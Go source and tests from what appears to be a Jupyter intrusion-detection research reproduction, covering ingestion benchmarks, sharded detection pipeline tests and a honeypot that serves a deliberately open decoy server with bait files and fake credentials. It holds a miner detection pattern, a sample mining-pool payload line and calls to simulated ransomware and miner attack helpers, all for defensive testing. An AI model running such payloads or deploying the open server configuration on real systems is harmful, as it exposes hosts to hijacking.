			hdr.Set("X-Tenant", name)
			hdr.Set("Authorization", "Bearer "+tok)
			conns[i], err = wsproto.Dial(raw, addr, "/ingest/ws", hdr)
			if err != nil {
				b.Fatalf("ws dial %d: %v", i, err)
			}
			var msg []byte
			for j := 0; j < batchSize; j++ {
				msg = append(msg, fmt.Sprintf(
					`{"kind":"http","src_ip":"10.%d.%d.7","method":"GET","path":"/api/contents/%d","status":200,"success":true}`+"\n",
					i/256, i%256, j)...)
			}
			msgs[i] = msg
		}

		// Each connection sends the same share of b.N, rounded up to
		// whole messages, so the submitted count per tenant is exact.
		perConn := (b.N + connCount - 1) / connCount
		msgsPerConn := (perConn + batchSize - 1) / batchSize
		sentPerConn := msgsPerConn * batchSize
		total := uint64(connCount * sentPerConn)
		sentPerTenant := uint64(connCount / tenantCount * sentPerConn)

		b.ResetTimer()
		start := time.Now()
		var wg sync.WaitGroup
		for i := range conns {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				for m := 0; m < msgsPerConn; m++ {
					if err := conns[i].WriteMessage(wsproto.OpText, msgs[i]); err != nil {
						b.Errorf("conn %d write: %v", i, err)
						return
					}
				}
			}(i)
		}
		wg.Wait()
		// The writes are async from the server's perspective: wait
		// until every submitted event is accounted for before closing.
		deadline := time.Now().Add(60 * time.Second)
		for {
			var seen uint64
			for _, ts := range svc.Stats().Tenants {
				seen += ts.Accepted + ts.Dropped + ts.Denied
			}
			if seen >= total {
				break
			}
			if time.Now().After(deadline) {
				b.Fatalf("server accounted %d of %d events within 60s", seen, total)
			}
			time.Sleep(time.Millisecond)
		}
		elapsed := time.Since(start)
		b.StopTimer()
		b.ReportMetric(float64(total)/elapsed.Seconds(), "events/sec")

		for i := range conns {
			_ = conns[i].Close(wsproto.CloseNormal, "")
		}
		svc.Drain()

		// The books must balance exactly, tenant by tenant.
		snap := svc.Stats()
		if len(snap.Tenants) != tenantCount {
			b.Fatalf("%d tenants in stats, want %d", len(snap.Tenants), tenantCount)
		}
		var accepted uint64
		for _, ts := range snap.Tenants {
			if got := ts.Accepted + ts.Dropped + ts.Denied; got != sentPerTenant {
				b.Fatalf("tenant %s: accepted %d + dropped %d + denied %d = %d, want %d submitted",
					ts.Tenant, ts.Accepted, ts.Dropped, ts.Denied, got, sentPerTenant)
			}
			if ts.Processed != ts.Accepted {
				b.Fatalf("tenant %s: processed %d != accepted %d after drain",
					ts.Tenant, ts.Processed, ts.Accepted)
			}
			if policy == trace.Block && (ts.Dropped != 0 || ts.Denied != 0) {
				b.Fatalf("tenant %s: lost %d+%d events under Block",
					ts.Tenant, ts.Dropped, ts.Denied)
			}
			accepted += ts.Accepted
		}
		if withStore {
			if err := store.Close(); err != nil {
				b.Fatal(err)
			}
			ro, err := evstore.OpenRead(store.Dir())
			if err != nil {
				b.Fatal(err)
			}
			if loss := ro.Recovered(); len(loss) != 0 {
				b.Fatalf("tail loss after drain: %+v", loss)
			}
			if got := uint64(ro.Events()); got != accepted {
				b.Fatalf("store recorded %d events, want %d accepted", got, accepted)
			}
		}
	}

	b.Run("block-engine", func(b *testing.B) { run(b, trace.Block, false) })
	b.Run("drop-engine", func(b *testing.B) { run(b, trace.DropNewest, false) })
	b.Run("block-engine-store", func(b *testing.B) { run(b, trace.Block, true) })
}
