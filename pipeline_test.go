// Pipeline v2 acceptance: the sharded streaming detection path must
// fire exactly the alerts a serial scan fires, on the full mixed
// workload, end to end across trace → workload sharding → rules.
package repro_test

import (
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/workload"
)

func alertFingerprint(a rules.Alert) string {
	return fmt.Sprintf("%s|%s|%d|%s", a.RuleID, a.Group, a.Count, a.Time.UTC().Format(time.RFC3339Nano))
}

func sortedFingerprints(t *testing.T, alerts []rules.Alert) []string {
	t.Helper()
	rules.SortAlerts(alerts)
	out := make([]string, len(alerts))
	for i, a := range alerts {
		out[i] = alertFingerprint(a)
	}
	return out
}

// TestShardedReplayMatchesSerial replays the standard attack mix
// serially and through the actor-sharded parallel path and demands
// identical (sorted) alert sets — the determinism guarantee DESIGN.md
// documents.
func TestShardedReplayMatchesSerial(t *testing.T) {
	tr := workload.StandardMix(17, 900)

	serial, err := rules.NewEngine(rules.BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range tr.Events {
		serial.Process(e)
	}

	for _, workers := range []int{2, 8} {
		sharded, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			t.Fatal(err)
		}
		workload.Replay(tr.Events, workers, 128, func(b []trace.Event) {
			sharded.ProcessBatch(b)
		})
		want := sortedFingerprints(t, serial.Alerts())
		got := sortedFingerprints(t, sharded.Alerts())
		if len(got) != len(want) {
			t.Fatalf("workers=%d: %d alerts, want %d", workers, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("workers=%d: alert sets diverge at %d:\nserial  %s\nsharded %s",
					workers, i, want[i], got[i])
			}
		}
		if sharded.Evaluated() != uint64(len(tr.Events)) {
			t.Fatalf("workers=%d: evaluated %d of %d", workers, sharded.Evaluated(), len(tr.Events))
		}
	}
}

// TestStagePipelineDeliversToEngine wires Bus → Stage → sharded
// engine, the full streaming topology jsentinel's live mode runs, and
// checks nothing is lost under concurrent emitters with the Block
// policy.
func TestStagePipelineDeliversToEngine(t *testing.T) {
	eng, err := rules.NewEngine(rules.BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	bus := trace.NewBus(trace.NewFakeClock(time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)))
	stage := trace.NewStage(eng, 4, 64, trace.Block)
	bus.Subscribe(stage)

	var emitted atomic.Uint64
	done := make(chan struct{})
	for g := 0; g < 4; g++ {
		go func(g int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 250; i++ {
				bus.Emit(trace.Event{
					Kind: trace.KindExec, User: fmt.Sprintf("u%d", g),
					Code: "b64encode(x)", // EX-003 fires per event
				})
				emitted.Add(1)
			}
		}(g)
	}
	for g := 0; g < 4; g++ {
		<-done
	}
	stage.Close()
	if eng.Evaluated() != emitted.Load() {
		t.Fatalf("engine evaluated %d of %d emitted", eng.Evaluated(), emitted.Load())
	}
	if n := len(eng.Alerts()); n != int(emitted.Load()) {
		t.Fatalf("alerts = %d, want %d", n, emitted.Load())
	}
	if stage.Dropped() != 0 {
		t.Fatalf("stage dropped %d events under Block policy", stage.Dropped())
	}
}
