// Pipeline v2 acceptance: the sharded streaming detection path must
// fire exactly the alerts a serial scan fires, on the full mixed
// workload, end to end across trace → workload sharding → rules.
package repro_test

import (
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/evstore"
	"repro/internal/rules"
	"repro/internal/trace"
	"repro/internal/workload"
)

func alertFingerprint(a rules.Alert) string {
	return fmt.Sprintf("%s|%s|%d|%s", a.RuleID, a.Group, a.Count, a.Time.UTC().Format(time.RFC3339Nano))
}

func sortedFingerprints(t *testing.T, alerts []rules.Alert) []string {
	t.Helper()
	rules.SortAlerts(alerts)
	out := make([]string, len(alerts))
	for i, a := range alerts {
		out[i] = alertFingerprint(a)
	}
	return out
}

// TestShardedReplayMatchesSerial replays the standard attack mix
// serially and through the actor-sharded parallel path and demands
// identical (sorted) alert sets — the determinism guarantee DESIGN.md
// documents.
func TestShardedReplayMatchesSerial(t *testing.T) {
	tr := workload.StandardMix(17, 900)

	serial, err := rules.NewEngine(rules.BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range tr.Events {
		serial.Process(e)
	}

	for _, workers := range []int{2, 8} {
		sharded, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			t.Fatal(err)
		}
		workload.Replay(tr.Events, workers, 128, func(b []trace.Event) {
			sharded.ProcessBatch(b)
		})
		want := sortedFingerprints(t, serial.Alerts())
		got := sortedFingerprints(t, sharded.Alerts())
		if len(got) != len(want) {
			t.Fatalf("workers=%d: %d alerts, want %d", workers, len(got), len(want))
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("workers=%d: alert sets diverge at %d:\nserial  %s\nsharded %s",
					workers, i, want[i], got[i])
			}
		}
		if sharded.Evaluated() != uint64(len(tr.Events)) {
			t.Fatalf("workers=%d: evaluated %d of %d", workers, sharded.Evaluated(), len(tr.Events))
		}
	}
}

// TestStagePipelineDeliversToEngine wires Bus → Stage → sharded
// engine, the full streaming topology jsentinel's live mode runs, and
// checks nothing is lost under concurrent emitters with the Block
// policy.
func TestStagePipelineDeliversToEngine(t *testing.T) {
	eng, err := rules.NewEngine(rules.BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	bus := trace.NewBus(trace.NewFakeClock(time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)))
	stage := trace.NewStage(eng, 4, 64, trace.Block)
	bus.Subscribe(stage)

	var emitted atomic.Uint64
	done := make(chan struct{})
	for g := 0; g < 4; g++ {
		go func(g int) {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 250; i++ {
				bus.Emit(trace.Event{
					Kind: trace.KindExec, User: fmt.Sprintf("u%d", g),
					Code: "b64encode(x)", // EX-003 fires per event
				})
				emitted.Add(1)
			}
		}(g)
	}
	for g := 0; g < 4; g++ {
		<-done
	}
	stage.Close()
	if eng.Evaluated() != emitted.Load() {
		t.Fatalf("engine evaluated %d of %d emitted", eng.Evaluated(), emitted.Load())
	}
	if n := len(eng.Alerts()); n != int(emitted.Load()) {
		t.Fatalf("alerts = %d, want %d", n, emitted.Load())
	}
	if stage.Dropped() != 0 {
		t.Fatalf("stage dropped %d events under Block policy", stage.Dropped())
	}
}

// storeMixedTrace builds the standard attack mix plus a sprinkle of
// scan_finding events (the census stream) and persists it to an
// event store with small segments, returning the events and the dir.
func storeMixedTrace(t testing.TB, benignSteps int) ([]trace.Event, string) {
	t.Helper()
	tr := workload.StandardMix(17, benignSteps)
	events := tr.Events
	// Interleave census findings — critical exposures fire the
	// stateless SC-001 rule — so kind-filtered replay has a second
	// kind class to isolate.
	base := time.Date(2026, 6, 2, 9, 0, 0, 0, time.UTC)
	sev := []string{"critical", "high", "medium"}
	var mixed []trace.Event
	for i, e := range events {
		mixed = append(mixed, e)
		if i%7 == 0 {
			mixed = append(mixed, trace.Event{
				Seq: uint64(len(events) + i + 1), Time: base.Add(time.Duration(i) * time.Second),
				Kind: trace.KindScanFinding, User: fmt.Sprintf("target-%d", i%13),
				Fields: map[string]string{
					"suite": "misconfig", "check_id": "JPY-001",
					"severity": sev[i%len(sev)], "class": "security_misconfiguration",
				},
			})
		}
	}
	dir := t.TempDir()
	s, err := evstore.Open(dir, evstore.Options{SegmentBytes: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range mixed {
		if err := s.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return mixed, dir
}

// TestStoreReplayMatchesSerial is the event-store acceptance test:
// filtered, segment-parallel store replay must raise exactly the
// alert set of a serial in-memory replay over the same (filtered)
// events — for the full stream and for a kind-filtered slice, at
// several worker counts.
func TestStoreReplayMatchesSerial(t *testing.T) {
	events, dir := storeMixedTrace(t, 900)
	store, err := evstore.OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}

	filters := []struct {
		name string
		f    evstore.Filter
	}{
		{"all", evstore.Filter{}},
		{"kinds=scan_finding", evstore.Filter{Kinds: []trace.Kind{trace.KindScanFinding}}},
		{"kinds=auth+scan_finding", evstore.Filter{Kinds: []trace.Kind{trace.KindAuth, trace.KindScanFinding}}},
	}
	for _, tc := range filters {
		serial, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			t.Fatal(err)
		}
		matched := 0
		for _, e := range events {
			if tc.f.Match(e) {
				serial.Process(e)
				matched++
			}
		}
		want := sortedFingerprints(t, serial.Alerts())

		for _, workers := range []int{1, 8} {
			sharded, err := rules.NewEngine(rules.BuiltinRules())
			if err != nil {
				t.Fatal(err)
			}
			stats, err := store.Replay(tc.f, workers, 128, func(b []trace.Event) {
				sharded.ProcessBatch(b)
			})
			if err != nil {
				t.Fatal(err)
			}
			if stats.Events != int64(matched) {
				t.Fatalf("%s workers=%d: store replayed %d events, serial matched %d",
					tc.name, workers, stats.Events, matched)
			}
			got := sortedFingerprints(t, sharded.Alerts())
			if len(got) != len(want) {
				t.Fatalf("%s workers=%d: %d alerts, want %d", tc.name, workers, len(got), len(want))
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("%s workers=%d: alert sets diverge at %d:\nserial %s\nstore  %s",
						tc.name, workers, i, want[i], got[i])
				}
			}
		}
	}

	// The kind filter must also have pruned segments: the benign
	// phases produce long scan_finding-free runs.
	stats, err := store.Replay(evstore.Filter{Kinds: []trace.Kind{trace.KindScanFinding}}, 1, 128, func([]trace.Event) {})
	if err != nil {
		t.Fatal(err)
	}
	if stats.SegmentsSelected >= stats.SegmentsTotal {
		t.Logf("note: kind filter selected all %d segments (findings interleaved everywhere)", stats.SegmentsTotal)
	}
}
