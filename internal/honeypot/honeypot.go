// Package honeypot implements the paper's edge-deployment strategy:
// decoy Jupyter servers that record every interaction, fingerprint
// attackers, extract signatures from observed payloads, and publish
// threat-intel bundles that production monitors consume — "catch the
// latest signatures of attacks in the wild before they reach the
// actual Jupyter Notebooks instances deployed in supercomputers."
//
// A honeypot is a real (simulated) Jupyter server run deliberately
// sloppy: auth open, terminals on, baited notebooks in place. Because
// it serves no legitimate users, *everything* it sees is hostile.
package honeypot

import (
	"fmt"
	"regexp"
	"sort"
	"sync"
	"time"

	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/server"
	"repro/internal/threatintel"
	"repro/internal/trace"
)

// Interaction is one recorded attacker action.
type Interaction struct {
	Time   time.Time
	SrcIP  string
	Kind   trace.Kind
	Method string
	Path   string
	Code   string
	Detail string
}

// Fingerprint summarizes one attacker source.
type Fingerprint struct {
	SrcIP        string
	FirstSeen    time.Time
	LastSeen     time.Time
	Requests     int
	Executions   int
	TermCommands int
	Classes      map[string]int // taxonomy class -> alert count
}

// Honeypot is a decoy server plus its recorder.
type Honeypot struct {
	ID     string
	Server *server.Server
	Addr   string

	mu           sync.Mutex
	interactions []Interaction
	fingerprints map[string]*Fingerprint
	userIP       map[string]string // user -> last source IP
	lastIP       string
	engine       engine
	clock        trace.Clock
	stage        *trace.Stage
}

// engine abstracts the detection engine used for classification so the
// honeypot package does not depend on core (avoiding a cycle for users
// who embed both).
type engine interface {
	Process(trace.Event) []rules.Alert
}

// Config tunes honeypot construction.
type Config struct {
	ID    string
	Clock trace.Clock
	// Engine classifies observed events (usually rules.NewEngine with
	// the builtin set). Required.
	Engine interface {
		Process(trace.Event) []rules.Alert
	}
	// AsyncQueue > 0 decouples the decoy server from the observer: the
	// server's emissions are queued into a bounded trace.Stage drained
	// by a single worker (one worker keeps attribution order — the
	// observer correlates kernel events with the last-seen source).
	AsyncQueue int
	// AsyncDrop selects the overflow policy for the observer stage
	// (default trace.Block). A flooded decoy may prefer
	// trace.DropNewest so the attacker cannot stall the server.
	AsyncDrop trace.DropPolicy
}

// New boots a honeypot on an ephemeral loopback port with bait content
// installed.
func New(cfg Config) (*Honeypot, error) {
	if cfg.Engine == nil {
		eng, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			return nil, err
		}
		cfg.Engine = eng
	}
	if cfg.Clock == nil {
		cfg.Clock = trace.RealClock{}
	}
	if cfg.ID == "" {
		cfg.ID = "honeypot-1"
	}
	srv := server.NewServer(server.SloppyConfig(), server.WithClock(cfg.Clock))
	hp := &Honeypot{
		ID: cfg.ID, Server: srv,
		fingerprints: map[string]*Fingerprint{},
		userIP:       map[string]string{},
		engine:       cfg.Engine,
		clock:        cfg.Clock,
	}
	var observer trace.Sink = trace.SinkFunc(hp.observe)
	if cfg.AsyncQueue > 0 {
		hp.stage = trace.NewStage(observer, 1, cfg.AsyncQueue, cfg.AsyncDrop)
		observer = hp.stage
	}
	srv.Bus().Subscribe(observer)
	if err := hp.installBait(); err != nil {
		return nil, err
	}
	addr, err := srv.Start()
	if err != nil {
		return nil, err
	}
	hp.Addr = addr
	return hp, nil
}

// Close stops the decoy server, then drains everything queued in the
// observer stage. Emissions from handlers still in flight when the
// server closes may arrive after the stage shuts and are counted in
// Dropped() rather than classified — export intel with Drain +
// PublishIntel (or Fleet.Collect) while the decoy is live to observe
// every interaction.
func (hp *Honeypot) Close() error {
	err := hp.Server.Close()
	if hp.stage != nil {
		hp.stage.Close()
	}
	return err
}

// Dropped reports observer-stage overflow losses (always 0 for a
// synchronous honeypot or the trace.Block policy).
func (hp *Honeypot) Dropped() uint64 {
	if hp.stage == nil {
		return 0
	}
	return hp.stage.Dropped()
}

// Drain blocks until the observer stage has consumed everything
// queued so far, without closing it. Synchronous honeypots return
// immediately.
func (hp *Honeypot) Drain() {
	if hp.stage == nil {
		return
	}
	for hp.stage.Processed() < hp.stage.Accepted() {
		time.Sleep(time.Millisecond)
	}
}

// installBait seeds believable research artifacts: the lure for
// ransomware and exfiltration actors.
func (hp *Honeypot) installBait() error {
	nb := nbformat.New()
	nb.AppendMarkdown("md-1", "# Protein folding training run\nInternal — do not distribute.")
	nb.AppendCode("code-1", `data = read_file("data/sequences.csv")
print("rows", len(split(data, "\n")))`)
	nbJSON, err := nb.Marshal()
	if err != nil {
		return err
	}
	files := map[string]string{
		"notebooks/train_model.ipynb": string(nbJSON),
		"data/sequences.csv":          "id,sequence\n1,MKTAYIAKQR\n2,GADVNVKKVL\n",
		"models/checkpoint_7b.bin":    "SIMULATED-WEIGHTS-" + repeat("wb", 2048),
		"secrets/.aws_credentials":    "[default]\naws_access_key_id=AKIA-SIMULATED\n",
	}
	for p, content := range files {
		if err := hp.Server.FS.Write(p, "bait", []byte(content)); err != nil {
			return err
		}
	}
	return nil
}

func repeat(s string, n int) string {
	out := make([]byte, 0, len(s)*n)
	for i := 0; i < n; i++ {
		out = append(out, s...)
	}
	return string(out)
}

// observe records every event and classifies it.
func (hp *Honeypot) observe(e trace.Event) {
	alerts := hp.engine.Process(e)
	hp.mu.Lock()
	defer hp.mu.Unlock()
	if e.SrcIP != "" || e.Kind == trace.KindExec || e.Kind == trace.KindTermCmd {
		hp.interactions = append(hp.interactions, Interaction{
			Time: e.Time, SrcIP: e.SrcIP, Kind: e.Kind,
			Method: e.Method, Path: e.Path, Code: e.Code, Detail: e.Detail,
		})
	}
	// Kernel-side events (exec, file ops) carry no transport address;
	// attribute them to the user's last-seen source, falling back to
	// the most recent source on the decoy (a honeypot serves no
	// legitimate traffic, so the attribution is sound).
	ip := e.SrcIP
	if ip != "" {
		hp.lastIP = ip
		if e.User != "" {
			hp.userIP[e.User] = ip
		}
	} else {
		if e.User != "" {
			ip = hp.userIP[e.User]
		}
		if ip == "" {
			ip = hp.lastIP
		}
	}
	if ip == "" {
		return
	}
	fp := hp.fingerprints[ip]
	if fp == nil {
		fp = &Fingerprint{SrcIP: ip, FirstSeen: e.Time, Classes: map[string]int{}}
		hp.fingerprints[ip] = fp
	}
	fp.LastSeen = e.Time
	switch e.Kind {
	case trace.KindHTTP:
		fp.Requests++
	case trace.KindExec:
		fp.Executions++
	case trace.KindTermCmd:
		fp.TermCommands++
	}
	for _, a := range alerts {
		fp.Classes[a.Class]++
	}
}

// Interactions returns the recorded interaction stream.
func (hp *Honeypot) Interactions() []Interaction {
	hp.mu.Lock()
	defer hp.mu.Unlock()
	out := make([]Interaction, len(hp.interactions))
	copy(out, hp.interactions)
	return out
}

// Fingerprints returns attacker fingerprints sorted by source IP.
func (hp *Honeypot) Fingerprints() []Fingerprint {
	hp.mu.Lock()
	defer hp.mu.Unlock()
	out := make([]Fingerprint, 0, len(hp.fingerprints))
	for _, fp := range hp.fingerprints {
		cp := *fp
		cp.Classes = map[string]int{}
		for k, v := range fp.Classes {
			cp.Classes[k] = v
		}
		out = append(out, cp)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].SrcIP < out[j].SrcIP })
	return out
}

// signatureCandidate captures a code payload worth generalizing.
var minerPattern = regexp.MustCompile(`(?i)(stratum\+tcp://[^\s"']+|xmrig|minerd)`)

// ExtractSignatures mines recorded interactions for payload-derived
// signatures: exact payload hashes always; literal pattern rules for
// recognizable tool strings. Returned rules carry ids namespaced by
// honeypot so merges stay idempotent.
func (hp *Honeypot) ExtractSignatures() []*rules.Rule {
	hp.mu.Lock()
	interactions := make([]Interaction, len(hp.interactions))
	copy(interactions, hp.interactions)
	hp.mu.Unlock()

	var out []*rules.Rule
	seen := map[string]bool{}
	for _, it := range interactions {
		if it.Code == "" {
			continue
		}
		if m := minerPattern.FindString(it.Code); m != "" && !seen["miner:"+m] {
			seen["miner:"+m] = true
			out = append(out, &rules.Rule{
				ID:          fmt.Sprintf("%s-sig-miner-%d", hp.ID, len(out)+1),
				Description: fmt.Sprintf("honeypot-extracted miner indicator %q", m),
				Class:       rules.ClassCryptomining,
				Severity:    rules.SevCritical,
				Conditions: []rules.Condition{
					{Field: "kind", Equals: "exec"},
					{Field: "code", Contains: m},
				},
			})
		}
		hash := threatintel.HashPayload([]byte(it.Code))
		if !seen["hash:"+hash] {
			seen["hash:"+hash] = true
			out = append(out, &rules.Rule{
				ID:          fmt.Sprintf("%s-sig-payload-%s", hp.ID, hash[:12]),
				Description: "honeypot-observed payload (exact match)",
				Class:       rules.ClassZeroDay,
				Severity:    rules.SevHigh,
				Conditions: []rules.Condition{
					{Field: "kind", Equals: "exec"},
					{Field: "code", Equals: it.Code},
				},
			})
		}
	}
	return out
}

// PublishIntel exports a threat-intel bundle: attacker IPs with
// confidence scaled by activity, payload hashes, and extracted rules.
func (hp *Honeypot) PublishIntel(now time.Time) *threatintel.Bundle {
	store := threatintel.NewStore()
	for _, fp := range hp.Fingerprints() {
		conf := 0.5
		if fp.Executions > 0 || fp.TermCommands > 0 {
			conf = 0.9 // touched a decoy kernel/terminal: certainly hostile
		} else if fp.Requests >= 5 {
			conf = 0.75
		}
		topClass := ""
		topCount := 0
		for c, n := range fp.Classes {
			if n > topCount {
				topClass, topCount = c, n
			}
		}
		store.Observe(threatintel.Indicator{
			Type: threatintel.TypeSourceIP, Value: fp.SrcIP,
			Class: topClass, Confidence: conf,
			FirstSeen: fp.FirstSeen, LastSeen: fp.LastSeen,
			Sightings: fp.Requests + fp.Executions + fp.TermCommands,
			Source:    hp.ID, TTL: 24 * time.Hour,
		})
	}
	for _, it := range hp.Interactions() {
		if it.Code == "" {
			continue
		}
		store.Observe(threatintel.Indicator{
			Type: threatintel.TypePayloadHash, Value: threatintel.HashPayload([]byte(it.Code)),
			Class: "", Confidence: 0.8,
			FirstSeen: it.Time, LastSeen: it.Time, Sightings: 1,
			Source: hp.ID, TTL: 7 * 24 * time.Hour,
		})
	}
	for _, r := range hp.ExtractSignatures() {
		_ = store.AddRule(r)
	}
	return store.Export(hp.ID, now)
}

// Fleet coordinates several honeypots feeding one intel store.
type Fleet struct {
	Honeypots []*Honeypot
	Store     *threatintel.Store
}

// NewFleet boots n honeypots with synchronous observers.
func NewFleet(n int, clock trace.Clock) (*Fleet, error) {
	return newFleet(n, clock, 0, trace.Block)
}

// NewFleetAsync boots n honeypots whose observers run behind bounded
// async stages (queue events per decoy), so a burst against one decoy
// cannot stall its server loop on classification work. Collect drains
// the stages before merging intel.
func NewFleetAsync(n int, clock trace.Clock, queue int, drop trace.DropPolicy) (*Fleet, error) {
	if queue <= 0 {
		queue = 1024
	}
	return newFleet(n, clock, queue, drop)
}

func newFleet(n int, clock trace.Clock, queue int, drop trace.DropPolicy) (*Fleet, error) {
	f := &Fleet{Store: threatintel.NewStore()}
	for i := 0; i < n; i++ {
		eng, err := rules.NewEngine(rules.BuiltinRules())
		if err != nil {
			return nil, err
		}
		hp, err := New(Config{
			ID: fmt.Sprintf("edge-hp-%d", i+1), Clock: clock, Engine: eng,
			AsyncQueue: queue, AsyncDrop: drop,
		})
		if err != nil {
			f.Close()
			return nil, err
		}
		f.Honeypots = append(f.Honeypots, hp)
	}
	return f, nil
}

// Collect drains every honeypot's observer stage, then pulls intel
// into the fleet store, returning totals of new indicators and rules.
func (f *Fleet) Collect(now time.Time) (indicators, sigs int) {
	for _, hp := range f.Honeypots {
		hp.Drain()
	}
	for _, hp := range f.Honeypots {
		ni, nr := f.Store.Merge(hp.PublishIntel(now))
		indicators += ni
		sigs += nr
	}
	return indicators, sigs
}

// Close stops all honeypots.
func (f *Fleet) Close() {
	for _, hp := range f.Honeypots {
		_ = hp.Close()
	}
}
