package honeypot

import (
	"strings"
	"testing"
	"time"

	"repro/internal/attacks"
	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/rules"
	"repro/internal/threatintel"
	"repro/internal/trace"
)

func newHoneypot(t *testing.T) *Honeypot {
	t.Helper()
	hp, err := New(Config{ID: "hp-test"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { hp.Close() })
	return hp
}

func TestBaitInstalled(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "")
	entries, err := c.ListDir("")
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, e := range entries {
		names[e.Path] = true
	}
	for _, want := range []string{"notebooks", "data", "models", "secrets"} {
		if !names[want] {
			t.Errorf("bait dir %s missing (have %v)", want, names)
		}
	}
}

func TestHoneypotIsOpen(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "") // no credentials
	if _, err := c.Status(); err != nil {
		t.Fatalf("honeypot must accept anonymous access: %v", err)
	}
}

func TestInteractionsRecorded(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "")
	_, _ = c.Status()
	_, _ = c.ReadFile("secrets/.aws_credentials")
	if len(hp.Interactions()) == 0 {
		t.Fatal("no interactions recorded")
	}
	fps := hp.Fingerprints()
	if len(fps) != 1 || fps[0].Requests < 2 {
		t.Fatalf("fingerprints = %+v", fps)
	}
}

func TestSignatureExtractionFromMinerPayload(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "")
	if _, err := attacks.Cryptominer(c, attacks.MinerOptions{
		Rounds: 2, BurnMillis: 100, Blatant: true, Username: "attacker",
	}); err != nil {
		t.Fatal(err)
	}
	sigs := hp.ExtractSignatures()
	var minerSig *rules.Rule
	for _, s := range sigs {
		if s.Class == rules.ClassCryptomining {
			minerSig = s
		}
	}
	if minerSig == nil {
		t.Fatalf("no miner signature extracted from %d sigs", len(sigs))
	}
	// The extracted signature must fire on a replay of the payload.
	en, err := rules.NewEngine([]*rules.Rule{minerSig})
	if err != nil {
		t.Fatal(err)
	}
	alerts := en.Process(trace.Event{
		Time: time.Now(), Kind: trace.KindExec,
		Code: `pool = "stratum+tcp://pool.minexmr.example:4444"`,
	})
	if len(alerts) == 0 {
		t.Fatal("extracted signature does not fire on replay")
	}
}

func TestPublishIntelContainsAttackerIP(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "")
	if _, err := attacks.Ransomware(c, attacks.RansomwareOptions{Username: "attacker"}); err != nil {
		t.Fatal(err)
	}
	bundle := hp.PublishIntel(time.Now())
	if len(bundle.Indicators) == 0 {
		t.Fatal("no indicators published")
	}
	var ipConf float64
	for _, ind := range bundle.Indicators {
		if ind.Type == threatintel.TypeSourceIP {
			ipConf = ind.Confidence
		}
	}
	// The attacker ran kernel code on a decoy: high confidence.
	if ipConf < 0.9 {
		t.Fatalf("attacker IP confidence = %f", ipConf)
	}
}

// TestHoneypotEarlyWarning is experiment E12: an attacker hits the
// honeypot first; intel flows to a production monitor which then (a)
// blocks the source and (b) carries the extracted signature.
func TestHoneypotEarlyWarning(t *testing.T) {
	hp := newHoneypot(t)
	attacker := client.New(hp.Addr, "")
	if _, err := attacks.Cryptominer(attacker, attacks.MinerOptions{
		Rounds: 1, BurnMillis: 100, Blatant: true, Username: "attacker",
	}); err != nil {
		t.Fatal(err)
	}

	// Edge publishes; production consumes.
	now := time.Now()
	prodStore := threatintel.NewStore()
	ni, nr := prodStore.Merge(hp.PublishIntel(now))
	if ni == 0 || nr == 0 {
		t.Fatalf("merge = %d indicators %d rules", ni, nr)
	}

	// Production blocks the attacker source (loopback in this sim).
	if !prodStore.IsBlocked("127.0.0.1", now.Add(time.Minute)) {
		t.Fatal("attacker IP not blocked in production")
	}

	// Production engine hot-loads the extracted signatures and fires
	// on the first sighting of the same payload — before any
	// production damage.
	eng := core.MustEngine()
	for _, r := range prodStore.Rules() {
		if err := eng.AddRule(r); err != nil {
			t.Fatal(err)
		}
	}
	alerts := eng.Process(trace.Event{
		Time: now, Kind: trace.KindExec, User: "someone-new",
		Code: `pool = "stratum+tcp://pool.minexmr.example:4444"` + "\n" + `spin(60000)`,
	})
	var viaIntel bool
	for _, a := range alerts {
		if strings.HasPrefix(a.RuleID, "hp-test-sig-") {
			viaIntel = true
		}
	}
	if !viaIntel {
		t.Fatalf("intel signature did not fire in production: %+v", alerts)
	}
}

func TestFleetCollect(t *testing.T) {
	fleet, err := NewFleet(2, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer fleet.Close()
	for _, hp := range fleet.Honeypots {
		c := client.New(hp.Addr, "")
		if _, err := c.Status(); err != nil {
			t.Fatal(err)
		}
	}
	inds, _ := fleet.Collect(time.Now())
	if inds == 0 {
		t.Fatal("fleet collected nothing")
	}
	if fleet.Store.Count() == 0 {
		t.Fatal("fleet store empty")
	}
}

func TestFingerprintClassification(t *testing.T) {
	hp := newHoneypot(t)
	c := client.New(hp.Addr, "")
	if _, err := attacks.Ransomware(c, attacks.RansomwareOptions{Username: "attacker"}); err != nil {
		t.Fatal(err)
	}
	fps := hp.Fingerprints()
	if len(fps) != 1 {
